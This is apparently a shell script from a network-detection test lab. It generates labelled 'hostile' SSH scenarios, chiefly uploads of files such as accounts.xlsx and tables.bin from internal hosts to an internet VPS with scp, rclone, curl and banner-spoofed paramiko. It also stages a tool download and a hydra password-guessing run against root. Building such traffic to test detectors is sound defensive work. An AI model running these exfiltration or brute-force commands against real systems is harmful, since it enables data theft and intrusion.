# SSH that nobody allowed.

take__sftp_parallel_archive() {
  take_begin sftp-parallel-archive none <<'Y'
title: Parts of an archive leave over two SFTP connections at once
what: Two parts of a split archive, 1.6 MB each, go to a rented server at the same time.
kind: hostile
client: { program: paramiko, package: python3-paramiko }
standIn: paramiko under the public banner of FileZilla 3.68.1 (FileZilla itself needs a desktop)
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'ws-fin:workstation', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: stark, login: success, transfers: [{ name: share.part1.rar, direction: upload, bytes: 1600000 }] }
  - { client: client, server: server, port: 22, protocol: ssh, user: stark, login: success, transfers: [{ name: share.part2.rar, direction: upload, bytes: 1600000 }] }
Y
  file share.part1.rar 1600000 rar >/dev/null
  file share.part2.rar 1600000 rar >/dev/null
  on ws-fin /usr/bin/python3 "$here/py/sftp-put.py" --banner SSH-2.0-FileZilla_3.68.1 --rate 250000 \
    stark Winter-90 "$(dns_name x-vps)" 22 "$work/files/share.part1.rar" "$work/files/share.part2.rar"
  take_end
}

take__ssh_port_443() {
  take_begin ssh-port-443 none <<'Y'
title: SSH on port 443
what: A workstation copies 1.5 MB to an SSH server that listens where web servers do.
kind: hostile
client: { program: scp, package: openssh-client }
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'ws-eng:workstation', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 443, protocol: ssh, user: ops, login: success, transfers: [{ name: src.bundle, direction: upload, bytes: 1500000 }] }
Y
  put_over_ssh scp ws-eng ops Ops-6633 "$(dns_name x-vps)" 443 "$(file src.bundle 1500000 random)"
  take_end
}

take__rclone_upload() {
  take_begin rclone-upload none <<'Y'
title: rclone copies to a rented server
what: A server in the data centre copies 2 MB over SFTP to an unknown host with rclone.
kind: hostile
client: { program: rclone, package: rclone }
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'srv-app:fixed', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: ops, login: success, times: some, transfers: [{ name: exports.tar, direction: upload, bytes: 2000000 }] }
Y
  put_over_ssh rclone srv-app ops Ops-6633 "$(dns_name x-vps)" 22 "$(file exports.tar 2000000 random)"
  take_end
}

take__psftp_upload() {
  take_begin psftp-upload none <<'Y'
title: psftp batch upload
what: A workstation stores 1.3 MB on an unknown server with PuTTY's SFTP client.
kind: hostile
client: { program: psftp, package: putty-tools }
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'ws-sal:workstation', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: ops, login: success, transfers: [{ name: pipeline.pst, direction: upload, bytes: 1300000 }] }
Y
  put_over_ssh psftp ws-sal ops Ops-6633 "$(dns_name x-vps)" 22 "$(file pipeline.pst 1300000 random)"
  take_end
}

take__libssh_upload() {
  take_begin libssh-upload none <<'Y'
title: Upload by a program with a library's banner
what: A script stores 1.4 MB on an unknown server.
kind: hostile
client: { program: paramiko, package: python3-paramiko }
standIn: paramiko under the banner of libssh 0.10.6
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'ws-eng:workstation', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: ops, login: success, transfers: [{ name: model.onnx, direction: upload, bytes: 1400000 }] }
Y
  file model.onnx 1400000 random >/dev/null
  on ws-eng /usr/bin/python3 "$here/py/sftp-put.py" --banner SSH-2.0-libssh_0.10.6 ops Ops-6633 \
    "$(dns_name x-vps)" 22 "$work/files/model.onnx"
  take_end
}

take__scp_upload() {
  take_begin scp-upload none <<'Y'
title: scp from the database server to the Internet
what: The database server copies 1.8 MB to an unknown host.
kind: hostile
client: { program: scp, package: openssh-client }
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'srv-db:fixed', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: ops, login: success, transfers: [{ name: tables.bin, direction: upload, bytes: 1800000 }] }
Y
  put_over_ssh scp srv-db ops Ops-6633 "$(dns_name x-vps)" 22 "$(file tables.bin 1800000 random)"
  take_end
}

take__curl_sftp_upload() {
  take_begin curl-sftp-upload none <<'Y'
title: curl over SFTP (libssh2)
what: A workstation stores 1.2 MB on an unknown server with curl.
kind: hostile
client: { program: curl with libssh2, package: curl }
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'ws-fin:workstation', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: ops, login: success, transfers: [{ name: accounts.xlsx, direction: upload, bytes: 1200000 }] }
Y
  put_over_ssh curl ws-fin ops Ops-6633 "$(dns_name x-vps)" 22 "$(file accounts.xlsx 1200000 zip)"
  take_end
}

take__winscp_download() {
  take_begin winscp-download full <<'Y'
title: A transfer client fetches a tool
what: A workstation fetches a small file from an unknown server with a client made for file transfer only.
kind: hostile
client: { program: paramiko, package: python3-paramiko }
standIn: paramiko under the public banner of WinSCP 6.3.5 (WinSCP runs on Windows only)
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'ws-sal:workstation', server: 'x-vps:internet', dns: 'srv-dns:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: ops, login: success, transfers: [{ name: scan-tool.zip, direction: download, bytes: 52000 }] }
Y
  lives x-vps ops scan-tool.zip 52000 zip
  on ws-sal /usr/bin/python3 "$here/py/sftp-put.py" --get --banner SSH-2.0-WinSCP_release_6.3.5 \
    ops Ops-6633 "$(dns_name x-vps)" 22 "$work/files/scan-tool.zip"
  take_end
}

take__ssh_brute_force() {
  take_begin ssh-brute-force full <<'Y'
title: Password guessing against SSH in the DMZ
what: Somebody on the Internet tries 132 passwords for "root", eight connections at a time; none fits.
kind: hostile
client: { program: hydra, package: hydra }
server: { program: OpenSSH, package: openssh-server }
roles: { client: 'x-atk:internet', server: 'dmz-ftp:fixed' }
sessions:
  - { client: client, server: server, port: 22, protocol: ssh, user: root, login: failure, times: some }
Y
  seq -f 'Guess%03g!' 132 >"$work/words"
  on x-atk hydra -q -I -t 8 -l root -P "$work/words" "ssh://$(address dmz-ftp)" >/dev/null 2>&1 || true
  take_end
}
